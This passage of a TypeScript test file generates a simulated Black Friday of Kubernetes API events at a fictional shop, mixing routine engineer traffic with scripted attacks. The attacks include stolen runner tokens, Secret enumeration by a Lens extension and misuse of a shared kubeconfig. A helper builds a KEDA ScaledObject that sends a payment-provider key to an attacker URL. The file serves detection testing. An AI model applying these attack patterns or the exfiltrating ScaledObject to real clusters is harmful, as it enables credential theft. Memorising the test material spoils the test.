import { attackKit, type AttackRequest, type DayEvent, lastScoredOf, LINUX, type Login, MAC, prng, type StaffMember, WIN, withAttacks, WS_UPGRADE } from './workday.js';

/**
 * A twenty-second replayed day, written as an outside red team and an outside observer of real
 * engineers would after reading docs/risk.md, from situations days 1–21 do not have: an e-commerce
 * company (Basketry, about 20 people on the gateway) on Black Friday, Friday 27 November 2026
 * (warm-up Thursday 26 November; hours UTC, Amsterdam is UTC+1, the US team UTC−5). Its production
 * cluster (`kubernetes.prod-eu.basketry.example`) is reachable only over the company's tailnet
 * (Tailscale): Envoy sits behind a subnet router that keeps the client's tailnet address, so each
 * device has one stable 100.64.0.0/10 address wherever the laptop is (home, office, a train), and
 * a WSL2 distro that runs its own tailscaled has an address of its own. The example as shipped,
 * plus (`SITE`, since session 49) `prod-secret-updates` enforced.
 *
 * Routine, as the tools send it:
 * - the checkout team (three, Windows): kubectl.exe, Lens Desktop (an Electron app whose proxy
 *   passes the renderer's user agent), one engineer's kubectl inside WSL2 on the distro's own tailnet
 *   address; the HPA of checkout raised for the peak, feature-flag ConfigMaps flipped in
 *   production, kubectl.exe updated by winget at midday;
 * - the catalogue team (two): feature flags, logs, a Deployment restart;
 * - payments (two, macOS): the PSP's webhook signing Secret rotated under pressure at 10:40 (the
 *   PSP rotated it after an incident of theirs), the payments database reached by port-forward
 *   every morning and afternoon by the team's DBA;
 * - SRE (two in Amsterdam, one in the US from 13:00): KEDA ScaledObjects and HPAs tuned for the
 *   peak, Karpenter NodePools' limits raised, events and shells into the ingress controller, the
 *   checkout latency incident from 15:10;
 * - two incident commanders in the war room (one EU, one US from 13:00) reading everything:
 *   `kubectl get -A`, events, HPAs, the Kubernetes Dashboard and Grafana;
 * - the edge engineer purging the CDN by a Job created from the purge CronJob, now and then;
 * - automation: actions-runner-controller's self-hosted runners (pods in the cluster, their
 *   repository's service account) deploying the storefront and checkout to staging every 20
 *   minutes.
 *
 * The attacks, each of a kind days 1–21 do not have:
 * - a stolen runner token of the storefront repository editing the payments repository's
 *   environment (payments-staging), from another runner pod;
 * - a pull request from a fork running on the checkout repository's self-hosted runner, reading
 *   the staging Secrets with the runner's service account;
 * - a Lens extension on a checkout engineer's laptop reading production Secrets namespace by
 *   namespace, a request every 20 s;
 * - the war room's observer: the incident commander's kubeconfig on the war-room PC, used by
 *   someone else in the room for the payments service's admin endpoint through the API server's
 *   service proxy, then a shell;
 * - malware on the SRE's laptop: a KEDA ScaledObject whose metrics-api trigger sends the PSP's API
 *   key (a ClusterTriggerAuthentication the platform made) as a bearer token to the attacker's URL;
 * - an insider in the checkout team scaling checkout to zero at the evening's peak;
 * - malware on the payments engineer's laptop swapping the PSP webhook Secret for the attacker's
 *   key 40 minutes after the real rotation;
 * - a tailnet device joined with a leaked auth key: the DBA's copied token port-forwarding to the
 *   payments database;
 * - the US incident commander's Dashboard session replayed from another tailnet device, reading
 *   the PSP Secret.
 */

export const D22_THU = Date.UTC(2026, 10, 26, 0, 0, 0); // warm-up
export const D22_FRI = Date.UTC(2026, 10, 27, 0, 0, 0); // scored: Black Friday
const [H, M, S] = [3_600_000, 60_000, 1000];

export const API = 'kubernetes.prod-eu.basketry.example';
export const DASHBOARD = 'dashboard.localhost';
export const GRAFANA = 'grafana.localhost';

export const KUBECTL = (os: string, v = 'v1.31.3', commit = 'c83cbee') => `kubectl/${v} (${os}) kubernetes/${commit}`;
/** Lens Desktop's proxy passes its renderer's (Electron's) user agent. */
export const LENS = (os: string) => `Mozilla/5.0 (${os}) AppleWebKit/537.36 (KHTML, like Gecko) Lens/2024.11.261604-latest Chrome/128.0.6613.186 Electron/32.2.5 Safari/537.36`;
export const CHROME = (os: string) => `Mozilla/5.0 (${os}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.6778.86 Safari/537.36`;
export const JSON_CT = { 'content-type': 'application/json' };
export const SMP = { 'content-type': 'application/strategic-merge-patch+json' };
export const MERGE = { 'content-type': 'application/merge-patch+json' };
const BROWSER = { accept: 'application/json', 'sec-fetch-mode': 'cors', 'sec-fetch-dest': 'empty' };

/** A device's tailnet address: stable wherever the laptop is. */
export const TAILNET = (idx: number, second = false) => `100.${64 + ((idx * 7 + (second ? 3 : 0)) % 60)}.${(idx * 29 + (second ? 101 : 0)) % 250}.${idx + (second ? 120 : 10)}`;
/** The war room's shared PC (the wall screen), on the tailnet as a tagged device. */
export const WAR_ROOM_PC = '100.88.14.201';

type Kind = 'checkout' | 'catalog' | 'payments' | 'sre' | 'ic' | 'edge';
/** Every sitting is on the tailnet, wherever the laptop is. */
type Sitting = [number, number, 'tailnet'];

/** `svc` is the team's production namespace. */
interface Person extends StaffMember<'tailnet'> {
  short: string;
  kind: Kind;
  lunch: number;
  /** kubectl inside WSL2 with the distro's own tailscaled (its own address, linux/amd64). */
  wsl?: boolean;
  /** Lens Desktop beside kubectl. */
  lens?: boolean;
  /** The team's DBA: the payments database by port-forward. */
  dba?: boolean;
}

function staff(rand: () => number): Person[] {
  const out: Person[] = [];
  const add = (short: string, kind: Kind, day: [number, number][], os: string, o: Partial<Person> = {}) => {
    const j = () => (rand() - 0.5) * 0.3;
    const jit = (s: [number, number][]): Sitting[] => s.map(([a, b]) => [Math.max(0, a + j()), Math.min(23.9, b + j()), 'tailnet']);
    const kubectlOs = os === MAC ? 'darwin/arm64' : os === WIN ? 'windows/amd64' : 'linux/amd64';
    out.push({ name: `d22-${short}@basketry.example`, short, idx: out.length, svc: `prod-${kind}`, kind, os, kubectlOs, kubectlVersion: 'v1.31.3', warm: jit(day), scored: jit(day), lunch: 11.3 + rand() * 0.7, ...o });
  };
  add('checkout-1', 'checkout', [[7.5, 16.5]], WIN, { lens: true });
  add('checkout-2', 'checkout', [[8, 17]], WIN, { lens: true, wsl: true });
  add('checkout-3', 'checkout', [[7.8, 12], [13, 17.2]], WIN, { wsl: true });
  add('catalog-1', 'catalog', [[8.2, 16.8]], MAC);
  add('catalog-2', 'catalog', [[7.6, 16]], WIN, { lens: true });
  add('payments-1', 'payments', [[7.7, 16.4]], MAC);
  add('payments-2', 'payments', [[8, 16.8]], MAC, { dba: true });
  add('sre-1', 'sre', [[7, 16]], LINUX);
  add('sre-2', 'sre', [[8, 17]], LINUX);
  add('sre-3', 'sre', [[13.2, 22.3]], LINUX);
  add('ic-1', 'ic', [[6.8, 15.8]], MAC);
  add('ic-2', 'ic', [[13, 22.8]], WIN);
  add('edge-1', 'edge', [[8.5, 17]], LINUX);
  return out;
}

type Req = { method: string; path: string; host?: string; headers?: Record<string, string>; body?: string; ua?: 'lens' | 'browser' | 'wsl' };

const PROD = ['prod-checkout', 'prod-catalog', 'prod-payments', 'prod-edge', 'prod-search'];
const KEDA = '/apis/keda.sh/v1alpha1';
const HPA = '/apis/autoscaling/v2';

/** A ScaledObject as the SRE team writes them: Prometheus's request rate. */
export function scaledObject(ns: string, name: string, min: number, max: number, extra: object[] = []): object {
  return {
    apiVersion: 'keda.sh/v1alpha1',
    kind: 'ScaledObject',
    metadata: { name, namespace: ns },
    spec: {
      scaleTargetRef: { name },
      minReplicaCount: min,
      maxReplicaCount: max,
      triggers: [{ type: 'prometheus', metadata: { serverAddress: 'http://prometheus.monitoring:9090', query: `sum(rate(http_requests_total{service="${name}"}[1m]))`, threshold: '150' } }, ...extra],
    },
  };
}

function checkoutTask(rand: () => number, p: Person, scored: boolean, h: number): Req[] {
  const k = rand();
  const ns = rand() < 0.75 ? 'prod-checkout' : 'checkout-staging';
  const pod = `checkout-web-7c9d${['f-2xk4p', 'f-q7w1m', '4-zz9rt'][Math.floor(rand() * 3)]}`;
  const cli: Req['ua'] = p.wsl && rand() < 0.5 ? 'wsl' : p.lens && rand() < 0.4 ? 'lens' : undefined;
  if (k < 0.3) return [{ method: 'GET', path: `/api/v1/namespaces/${ns}/pods?limit=500`, ua: cli }, { method: 'GET', path: `/apis/apps/v1/namespaces/${ns}/deployments?limit=500`, ua: cli }];
  if (k < 0.5) return [{ method: 'GET', path: `/api/v1/namespaces/${ns}/pods/${pod}/log?container=web&tailLines=200`, ua: cli }];
  if (k < 0.6) return [{ method: 'GET', path: `${HPA}/namespaces/prod-checkout/horizontalpodautoscalers/checkout-web`, ua: cli }, { method: 'GET', path: '/api/v1/namespaces/prod-checkout/events?limit=500', ua: cli }];
  if (k < 0.68 && scored && h > 8 && h < 15) {
    // Raising the HPA's floor for the peak (kubectl patch hpa).
    return [{ method: 'PATCH', path: `${HPA}/namespaces/prod-checkout/horizontalpodautoscalers/checkout-web?fieldManager=kubectl-patch`, headers: MERGE, body: JSON.stringify({ spec: { minReplicas: 12 + Math.floor(rand() * 8), maxReplicas: 80 } }) }];
  }
  if (k < 0.76) {
    const flag = ['express-checkout', 'apple-pay-banner', 'bf-countdown', 'address-autocomplete'][Math.floor(rand() * 4)]!;
    return [{ method: 'GET', path: '/api/v1/namespaces/prod-checkout/configmaps/feature-flags' }, { method: 'PATCH', path: '/api/v1/namespaces/prod-checkout/configmaps/feature-flags?fieldManager=kubectl-patch', headers: MERGE, body: JSON.stringify({ data: { [flag]: rand() < 0.5 ? 'true' : 'false' } }) }];
  }
  if (k < 0.82) return [{ method: 'GET', path: `/api/v1/namespaces/${ns}/secrets/checkout-config`, ua: cli }];
  if (k < 0.86) return [{ method: 'POST', path: `/api/v1/namespaces/${ns}/pods/${pod}/exec?command=sh&container=web&stdin=true&stdout=true&tty=true`, ua: cli }];
  return [{ method: 'GET', path: `/api/v1/namespaces/${ns}/services`, ua: cli }, { method: 'GET', path: `/apis/networking.k8s.io/v1/namespaces/${ns}/ingresses`, ua: cli }];
}

function catalogTask(rand: () => number, p: Person): Req[] {
  const k = rand();
  const ns = rand() < 0.7 ? 'prod-catalog' : rand() < 0.5 ? 'catalog-staging' : 'prod-search';
  const cli: Req['ua'] = p.lens && rand() < 0.4 ? 'lens' : undefined;
  if (k < 0.35) return [{ method: 'GET', path: `/api/v1/namespaces/${ns}/pods?limit=500`, ua: cli }, { method: 'GET', path: `/api/v1/namespaces/${ns}/pods/catalog-api-5b8${Math.floor(rand() * 3)}/log?tailLines=300`, ua: cli }];
  if (k < 0.5) {
    const flag = ['recommendations', 'bf-deals-rail', 'search-v2', 'image-cdn-webp'][Math.floor(rand() * 4)]!;
    return [{ method: 'PATCH', path: '/api/v1/namespaces/prod-catalog/configmaps/feature-flags?fieldManager=kubectl-patch', headers: MERGE, body: JSON.stringify({ data: { [flag]: rand() < 0.5 ? 'on' : 'off' } }) }];
  }
  if (k < 0.58) return [{ method: 'PATCH', path: `/apis/apps/v1/namespaces/${ns}/deployments/catalog-api?fieldManager=kubectl-rollout`, headers: SMP, body: JSON.stringify({ spec: { template: { metadata: { annotations: { 'kubectl.kubernetes.io/restartedAt': '2026-11-27T10:00:00Z' } } } } }) }];
  if (k < 0.65) return [{ method: 'GET', path: `/api/v1/namespaces/${ns}/secrets/catalog-db`, ua: cli }];
  if (k < 0.85) return [{ method: 'GET', path: `/api/ds/query?ds_type=prometheus&requestId=Q${Math.floor(rand() * 999)}`, host: GRAFANA, ua: 'browser', headers: BROWSER }];
  return [{ method: 'GET', path: `${KEDA}/namespaces/${ns}/scaledobjects`, ua: cli }];
}

function paymentsTask(rand: () => number, p: Person, n: number): Req[] {
  const k = rand();
  const ns = rand() < 0.8 ? 'prod-payments' : 'payments-staging';
  const pod = `payments-api-6f4c${['8-h2x9q', '8-p0lkd'][Math.floor(rand() * 2)]}`;
  if (p.dba && (n === 1 || n === 22)) {
    // The DBA's port-forward to the primary (kubectl ≥ 1.30 opens it as a WebSocket).
    return [{ method: 'GET', path: '/api/v1/namespaces/prod-payments/pods/pg-payments-0', }, { method: 'GET', path: '/api/v1/namespaces/prod-payments/pods/pg-payments-0/portforward?ports=5432', headers: WS_UPGRADE }];
  }
  if (k < 0.35) return [{ method: 'GET', path: `/api/v1/namespaces/${ns}/pods?limit=500` }, { method: 'GET', path: `/api/v1/namespaces/${ns}/pods/${pod}/log?container=api&tailLines=500` }];
  if (k < 0.5) return [{ method: 'GET', path: `/api/v1/namespaces/${ns}/events?limit=500` }];
  if (k < 0.6) return [{ method: 'GET', path: `/api/v1/namespaces/${ns}/secrets/psp-webhook` }];
  if (k < 0.66) return [{ method: 'POST', path: `/api/v1/namespaces/${ns}/pods/${pod}/exec?command=sh&container=api&stdin=true&stdout=true&tty=true` }];
  if (k < 0.85) return [{ method: 'GET', path: `/api/ds/query?ds_type=prometheus&requestId=P${Math.floor(rand() * 999)}`, host: GRAFANA, ua: 'browser', headers: BROWSER }];
  return [{ method: 'GET', path: `/apis/apps/v1/namespaces/${ns}/deployments/payments-api` }];
}

function sreTask(rand: () => number, scored: boolean): Req[] {
  const k = rand();
  const ns = PROD[Math.floor(rand() * PROD.length)]!;
  const app = ns === 'prod-checkout' ? 'checkout-web' : ns === 'prod-catalog' ? 'catalog-api' : ns === 'prod-payments' ? 'payments-worker' : ns === 'prod-edge' ? 'edge-proxy' : 'search-api';
  if (k < 0.25) return [{ method: 'GET', path: `/api/v1/namespaces/${ns}/pods?limit=500` }, { method: 'GET', path: `/api/v1/namespaces/${ns}/events?limit=500` }];
  if (k < 0.4) return [{ method: 'GET', path: `${KEDA}/namespaces/${ns}/scaledobjects/${app}` }, { method: 'PATCH', path: `${KEDA}/namespaces/${ns}/scaledobjects/${app}?fieldManager=kubectl-client-side-apply&fieldValidation=Strict`, headers: MERGE, body: JSON.stringify(scaledObject(ns, app, scored ? 10 : 3, scored ? 120 : 40)) }];
  if (k < 0.5) return [{ method: 'GET', path: `${HPA}/horizontalpodautoscalers?limit=500` }, { method: 'PATCH', path: `${HPA}/namespaces/${ns}/horizontalpodautoscalers/${app}?fieldManager=kubectl-patch`, headers: MERGE, body: JSON.stringify({ spec: { maxReplicas: scored ? 150 : 50 } }) }];
  if (k < 0.58) return [{ method: 'GET', path: '/apis/karpenter.sh/v1/nodepools' }, { method: 'GET', path: '/apis/karpenter.sh/v1/nodeclaims' }];
  if (k < 0.66) return [{ method: 'GET', path: '/api/v1/namespaces/ingress-nginx/pods' }, { method: 'GET', path: '/api/v1/namespaces/ingress-nginx/pods/ingress-nginx-controller-5d8f7-kx2mz/log?container=controller&tailLines=500' }];
  if (k < 0.85) return [{ method: 'GET', path: `/api/ds/query?ds_type=prometheus&requestId=S${Math.floor(rand() * 999)}`, host: GRAFANA, ua: 'browser', headers: BROWSER }];
  return [{ method: 'GET', path: '/api/v1/nodes?limit=500' }, { method: 'GET', path: '/apis/karpenter.sh/v1/nodeclaims' }];
}

function icTask(rand: () => number): Req[] {
  const k = rand();
  const ns = PROD[Math.floor(rand() * PROD.length)]!;
  if (k < 0.3) return [{ method: 'GET', path: '/api/v1/pods?limit=500' }, { method: 'GET', path: '/api/v1/events?limit=500&fieldSelector=type%3DWarning' }];
  if (k < 0.45) return [{ method: 'GET', path: `${HPA}/horizontalpodautoscalers?limit=500` }, { method: 'GET', path: `${KEDA}/scaledobjects?limit=500` }];
  if (k < 0.7) return [{ method: 'GET', path: `/api/v1/pod/${ns}?itemsPerPage=50&page=1&sortBy=d,creationTimestamp`, host: DASHBOARD, ua: 'browser', headers: BROWSER }, { method: 'GET', path: `/api/v1/deployment/${ns}?itemsPerPage=50&page=1`, host: DASHBOARD, ua: 'browser', headers: BROWSER }];
  if (k < 0.9) return [{ method: 'GET', path: `/api/ds/query?ds_type=prometheus&requestId=W${Math.floor(rand() * 999)}`, host: GRAFANA, ua: 'browser', headers: BROWSER }];
  return [{ method: 'GET', path: `/apis/apps/v1/namespaces/${ns}/deployments?limit=500` }, { method: 'GET', path: `/api/v1/namespaces/${ns}/pods?limit=500` }];
}

function edgeTask(rand: () => number, scored: boolean, n: number): Req[] {
  const k = rand();
  if (n % 9 === 4) {
    // `kubectl create job cdn-purge-manual-… --from=cronjob/cdn-purge`: the purge CronJob's pod template.
    const job = { apiVersion: 'batch/v1', kind: 'Job', metadata: { name: `cdn-purge-manual-${scored ? 'f' : 't'}${n}`, namespace: 'prod-edge', annotations: { 'cronjob.kubernetes.io/instantiate': 'manual' } }, spec: { backoffLimit: 0, template: { spec: { restartPolicy: 'Never', serviceAccountName: 'cdn-purge', containers: [{ name: 'purge', image: 'registry.basketry.example/edge/cdn-purge:2.4.1', args: ['--surrogate-key', 'catalog', '--soft'], envFrom: [{ secretRef: { name: 'cdn-api-token' } }] }] } } } };
    return [{ method: 'POST', path: '/apis/batch/v1/namespaces/prod-edge/jobs?fieldManager=kubectl-create', headers: JSON_CT, body: JSON.stringify(job) }, { method: 'GET', path: `/api/v1/namespaces/prod-edge/pods?labelSelector=job-name%3Dcdn-purge-manual-${scored ? 'f' : 't'}${n}` }];
  }
  if (k < 0.4) return [{ method: 'GET', path: '/api/v1/namespaces/prod-edge/pods?limit=500' }, { method: 'GET', path: '/api/v1/namespaces/prod-edge/pods/edge-proxy-0/log?tailLines=300' }];
  if (k < 0.6) return [{ method: 'GET', path: '/apis/batch/v1/namespaces/prod-edge/cronjobs' }, { method: 'GET', path: '/apis/batch/v1/namespaces/prod-edge/jobs' }];
  if (k < 0.85) return [{ method: 'GET', path: `/api/ds/query?ds_type=prometheus&requestId=E${Math.floor(rand() * 999)}`, host: GRAFANA, ua: 'browser', headers: BROWSER }];
  return [{ method: 'GET', path: '/apis/networking.k8s.io/v1/namespaces/prod-edge/ingresses' }];
}

/** The checkout latency incident from 15:10: the SREs and the IC on it. */
function incident(rand: () => number, sre: boolean): Req[] {
  const pod = `checkout-web-7c9df-${['2xk4p', 'q7w1m', 'v8n2c', 'l0p3e'][Math.floor(rand() * 4)]}`;
  const k = rand();
  if (!sre || k < 0.4) return [{ method: 'GET', path: '/api/v1/namespaces/prod-checkout/pods?limit=500' }, { method: 'GET', path: '/api/v1/namespaces/prod-checkout/events?limit=500' }];
  if (k < 0.6) return [{ method: 'GET', path: `/api/v1/namespaces/prod-checkout/pods/${pod}/log?container=web&tailLines=1000` }];
  if (k < 0.75) return [{ method: 'POST', path: `/api/v1/namespaces/prod-checkout/pods/${pod}/exec?command=sh&container=web&stdin=true&stdout=true&tty=true` }];
  if (k < 0.9) return [{ method: 'PATCH', path: `${HPA}/namespaces/prod-checkout/horizontalpodautoscalers/checkout-web?fieldManager=kubectl-patch`, headers: MERGE, body: JSON.stringify({ spec: { maxReplicas: 200 } }) }];
  return [{ method: 'GET', path: '/api/v1/namespaces/prod-payments/pods?limit=500' }];
}

/**
 * The site's copy of the example (session 49): `prod-secret-updates` enforced, as its comment in
 * the example says a site does where a person changes a production Secret rarely. Basketry's
 * production Secrets change through Helm (its release records left out by name) and, on this day,
 * by hand once: the PSP's emergency key rotation, which is asked once. Since session 51 each runner
 * scale set's service account also has its namespace list (RUNNER_NAMESPACES).
 */
const SHADOW = /(unless_names: \["sh\.helm\.release\.v1\.\*"\]\n)      mode: shadow\n/;
const RULES = '  rules:\n';
export function SITE(yaml: string): string {
  if (!SHADOW.test(yaml)) throw new Error('day 22: prod-secret-updates is no longer in shadow mode in the example');
  if (yaml.split(RULES).length !== 2) throw new Error('day 22: the example no longer has one "  rules:" line to add the runners\' namespace lists after');
  return yaml.replace(SHADOW, '$1').replace(RULES, `${RULES}${RUNNER_NAMESPACES}`);
}

/**
 * Session 51: a namespace list per automation identity (docs/configuration.md, "A namespace list
 * per automation identity"). Each runner scale set's service account writes its own repository's
 * namespaces; a write anywhere else (another repository's environment, a cluster-scoped object)
 * needs a human, which a runner cannot be: `automation_step_up`, or a pending approval where the
 * site has `automation.approver`. Reads are left as they are (a runner's `kubectl` reads
 * discovery and cluster-scoped objects), and a Secret read asks two factors anyway.
 */
export const RUNNER_NAMESPACES = (['storefront', 'checkout'] as const)
  .map((repo) => `    - name: ${repo}-runner-namespaces
      description: the ${repo} repository's runners write only ${repo}-* namespaces; anywhere else a human approves
      match:
        subjects: ["system:serviceaccount:arc-runners:${repo}-runner"]
        kubernetes:
          verbs: [create, update, patch, delete, deletecollection]
          unless_namespaces: ["${repo}-*"]
      require: aal2
      max_age: 900
`)
  .join('');

export function workday22(seed = 201): DayEvent[] {
  const rand = prng(seed * 2_654_435_761 + 22);
  const people = staff(rand);
  const events: DayEvent[] = [];
  for (const [day, scored] of [[D22_THU, false], [D22_FRI, true]] as const) {
    const at = (h: number) => day + h * H;
    for (const p of people) {
      const mine: DayEvent[] = [];
      // kubectl.exe updated by winget at midday on the scored day (the checkout team).
      const kubectlUa = (t: number) => (scored && p.kind === 'checkout' && p.short !== 'checkout-3' && (t - day) / H > 12.2 ? KUBECTL(p.kubectlOs, 'v1.32.0', '70d3cc9') : KUBECTL(p.kubectlOs));
      const uaOf = (q: Req, t: number) => (q.ua === 'lens' ? LENS(p.os) : q.ua === 'browser' ? CHROME(p.os) : q.ua === 'wsl' ? KUBECTL('linux/amd64', 'v1.31.3') : kubectlUa(t));
      const ipOf = (q: Req) => (q.ua === 'wsl' ? TAILNET(p.idx, true) : TAILNET(p.idx));
      // kubectl inside WSL2 has its own home, so kubelogin's token cache is its own: a sign-in
      // of its own at its first use in the sitting (the browser opens on Windows through wslview).
      let wslLogin: Login | undefined;
      const loginOf = (q: Req, t: number, l: Login): Login => {
        if (q.ua !== 'wsl') return l;
        if (wslLogin === undefined || !wslLogin.sid.startsWith(l.sid)) wslLogin = { sub: p.name, sid: `${l.sid}:wsl`, authTime: Math.floor((t - 30 * S) / 1000), acr: 'urn:stepgate:aal2' };
        return wslLogin;
      };
      const push = (t: number, q: Req, l: Login) =>
        mine.push({ at: Math.round(t), actor: p.name, scored, ip: ipOf(q), ua: uaOf(q, t), login: loginOf(q, t, l), method: q.method, path: q.path, host: q.host ?? API, ...(q.headers ? { headers: q.headers } : {}), ...(q.body !== undefined ? { body: q.body } : {}) });
      let n = 0;
      let login: Login | undefined;
      let last = -Infinity;
      for (const [from, to] of scored ? p.scored : p.warm) {
        if (login === undefined || from - last > 2) login = { sub: p.name, sid: `${p.name}:${day}:${Math.round(from * 10)}`, authTime: Math.floor((at(from) - 40 * S) / 1000), acr: 'urn:stepgate:aal2' };
        last = to;
        const l = login;
        let t = at(from) + M;
        while (t < at(to)) {
          const h = (t - day) / H;
          if (p.kind !== 'ic' && h >= p.lunch && h < p.lunch + 0.6 && from < p.lunch && to > p.lunch + 0.6) {
            t = at(p.lunch + 0.6) + S;
            continue;
          }
          // The incident: 15:10–16:00 the SREs on shift and the ICs work on checkout only.
          const inIncident = scored && h >= 15.17 && h < 16 && (p.kind === 'sre' || p.kind === 'ic');
          const reqs = inIncident
            ? incident(rand, p.kind === 'sre')
            : p.kind === 'checkout' ? checkoutTask(rand, p, scored, h) : p.kind === 'catalog' ? catalogTask(rand, p) : p.kind === 'payments' ? paymentsTask(rand, p, n) : p.kind === 'sre' ? sreTask(rand, scored) : p.kind === 'ic' ? icTask(rand) : edgeTask(rand, scored, n);
          n++;
          const gap = 1500 + rand() * 2500;
          reqs.forEach((q, i) => push(t + i * gap, q, l));
          t += inIncident ? 1.5 * M + rand() * 3 * M : p.kind === 'ic' ? 3 * M + rand() * 6 * M : 4 * M + rand() * 10 * M;
        }
      }
      if (p.kind === 'sre' && p.short !== 'sre-1') {
        // Before the peak, the SRE on shift raises the Karpenter NodePool's CPU limit (once a day;
        // the warm-up day's is the preparation for Black Friday).
        const l = mine[0]!.login;
        const h = p.short === 'sre-2' ? 8.6 : 13.5;
        const base = { actor: p.name, scored, ip: TAILNET(p.idx), ua: KUBECTL(p.kubectlOs), login: l, host: API };
        mine.push({ ...base, at: at(h), method: 'GET', path: '/apis/karpenter.sh/v1/nodepools/general-purpose' });
        mine.push({ ...base, at: at(h + 0.01), method: 'PATCH', path: '/apis/karpenter.sh/v1/nodepools/general-purpose?fieldManager=kubectl-patch', headers: MERGE, body: JSON.stringify({ spec: { limits: { cpu: scored ? (p.short === 'sre-2' ? '4000' : '6000') : '2500' } } }) });
      }
      if (scored && p.short === 'payments-1') {
        // 10:40: the PSP rotated its webhook signing key after an incident of theirs; the new key
        // goes into the Secret and the webhook receiver is restarted.
        const l = mine[0]!.login;
        const base = { actor: p.name, scored, ip: TAILNET(p.idx), ua: KUBECTL(p.kubectlOs), login: l, host: API };
        mine.push({ ...base, at: at(10.66), method: 'GET', path: '/api/v1/namespaces/prod-payments/secrets/psp-webhook' });
        mine.push({ ...base, at: at(10.67), method: 'PATCH', path: '/api/v1/namespaces/prod-payments/secrets/psp-webhook?fieldManager=kubectl-patch', headers: MERGE, body: JSON.stringify({ data: { 'signing-key': 'd2hzZWNfN2JmM2E5YzE0ZTJkOGY2YTBiNWM=' } }) });
        mine.push({ ...base, at: at(10.68), method: 'PATCH', path: '/apis/apps/v1/namespaces/prod-payments/deployments/psp-webhook-receiver?fieldManager=kubectl-rollout', headers: SMP, body: JSON.stringify({ spec: { template: { metadata: { annotations: { 'kubectl.kubernetes.io/restartedAt': '2026-11-27T10:41:00Z' } } } } }) });
      }
      mine.sort((a, b) => a.at - b.at);
      events.push(...mine);
    }
    // actions-runner-controller's runners: a job every 20 minutes per repository, from a runner
    // pod's address, with that repository's runner service account.
    for (const [repo, ns] of [['storefront', 'storefront-staging'], ['checkout', 'checkout-staging']] as const) {
      const ci: Login = { sub: `system:serviceaccount:arc-runners:${repo}-runner`, sid: '', authTime: undefined, acr: 'urn:stepgate:aal1', serviceAccount: true };
      for (let j = 0; j < 30; j++) {
        const t = day + 7 * H + j * 20 * M + (repo === 'checkout' ? 7 * M : 0);
        const base = { actor: 'ci', scored, ip: `10.42.${(j * 3) % 16}.${(j * 17) % 250 + 3}`, ua: KUBECTL('linux/amd64', 'v1.31.2', '5864a46'), login: ci, host: API };
        events.push({ ...base, at: t, method: 'PATCH', path: `/apis/apps/v1/namespaces/${ns}/deployments/${repo}-web?fieldManager=kubectl-set`, headers: SMP, body: JSON.stringify({ spec: { template: { spec: { containers: [{ name: 'web', image: `ghcr.io/basketry/${repo}-web:sha-${(seed * 7919 + j * 104729).toString(16).slice(0, 7)}` }] } } } }) });
        events.push({ ...base, at: t + 5 * S, method: 'GET', path: `/apis/apps/v1/namespaces/${ns}/deployments/${repo}-web` });
        events.push({ ...base, at: t + 40 * S, method: 'GET', path: `/api/v1/namespaces/${ns}/pods?labelSelector=app%3D${repo}-web` });
      }
    }
  }
  events.sort((a, b) => a.at - b.at);
  return withAttacks(events, attacks22(people, events));
}

/** A ScaledObject whose metrics-api trigger sends a ClusterTriggerAuthentication's bearer token to `url`. */
export function exfilScaledObject(ns: string, name: string, url: string): object {
  const so = scaledObject(ns, name, 10, 120, [{ type: 'metrics-api', metadata: { url, valueLocation: 'queue.depth', targetValue: '100', authMode: 'bearer' }, authenticationRef: { name: 'psp-api', kind: 'ClusterTriggerAuthentication' } }]) as { spec: object };
  return so;
}

function attacks22(people: Person[], routine: DayEvent[]): DayEvent[] {
  const out: DayEvent[] = [];
  const { by, add, T, to: on } = attackKit(out, people, D22_FRI, API);
  const kubectlOf = (x: DayEvent) => x.ua.startsWith('kubectl/') && x.host === API;

  // 1. The storefront repository's runner token (printed by a debug step into a public job log)
  // used at 11:10 from another runner pod: the payments repository's staging environment, its
  // Deployment's image swapped for the attacker's.
  const sf: Login = { sub: 'system:serviceaccount:arc-runners:storefront-runner', sid: '', authTime: undefined, acr: 'urn:stepgate:aal1', serviceAccount: true };
  add("a stolen runner token of the storefront repository editing the payments repository's environment", T(11.16), '10.42.9.77', KUBECTL('linux/amd64', 'v1.31.2', '5864a46'), sf, on(API, [
    ['GET', '/apis/apps/v1/namespaces/payments-staging/deployments/payments-api', false],
    ['PATCH', '/apis/apps/v1/namespaces/payments-staging/deployments/payments-api?fieldManager=kubectl-set', true, SMP, JSON.stringify({ spec: { template: { spec: { containers: [{ name: 'api', image: 'ghcr.io/basketry-payments/payments-api:bf-hotfix' }] } } } })],
    ['GET', '/api/v1/namespaces/payments-staging/secrets/psp-sandbox', true],
  ]), 6 * S);

  // 2. A pull request from a fork, run on the checkout repository's self-hosted runner (the
  // workflow's `pull_request_target`), at 09:20: the runner's service account reads the staging
  // Secrets and creates a pod that lists the node's.
  const co: Login = { sub: 'system:serviceaccount:arc-runners:checkout-runner', sid: '', authTime: undefined, acr: 'urn:stepgate:aal1', serviceAccount: true };
  add("a fork's pull request on the checkout repository's self-hosted runner, with the runner's service account", T(9.33), '10.42.3.140', KUBECTL('linux/amd64', 'v1.31.2', '5864a46'), co, on(API, [
    ['GET', '/api/v1/namespaces/checkout-staging/pods', false],
    ['GET', '/api/v1/namespaces/checkout-staging/secrets', true],
    ['GET', '/api/v1/namespaces/checkout-staging/secrets/checkout-config', true],
  ]), 3 * S);

  // 3. A Lens extension (a "resource map" from the extension catalogue) on checkout-1's laptop at
  // 13:45, through Lens's proxy with the engineer's session: every production namespace's Secrets,
  // alphabetically, one list every 20 s.
  const c1 = by('checkout-1');
  const v3 = lastScoredOf(routine, c1.name, T(13.75), kubectlOf);
  add('a Lens extension reading production Secrets namespace by namespace (checkout laptop)', T(13.75), v3.ip, LENS(WIN), v3.login, on(API, [
    ['GET', '/api/v1/namespaces?limit=500', false],
    ...['prod-catalog', 'prod-checkout', 'prod-edge', 'prod-payments', 'prod-search'].map((ns): AttackRequest => ['GET', `/api/v1/namespaces/${ns}/secrets`, true]),
  ]), 20 * S, c1);

  // 4. The war room at 14:20: ic-1 signed in on the wall-screen PC this morning to show the
  // cluster; someone else in the room uses that kubeconfig for the payments service's admin port
  // through the API server's service proxy (Spring Boot's actuator: the environment with the PSP's
  // keys, then a restart), then a shell.
  const ic1 = by('ic-1');
  // The IC used that PC from 07:00 to show the cluster: kubelogin there signed them in (a login
  // of the PC's own), which the attacker's kubectl on it holds.
  const icMorning = routine.find((e) => e.actor === ic1.name && e.scored && e.host === API)!;
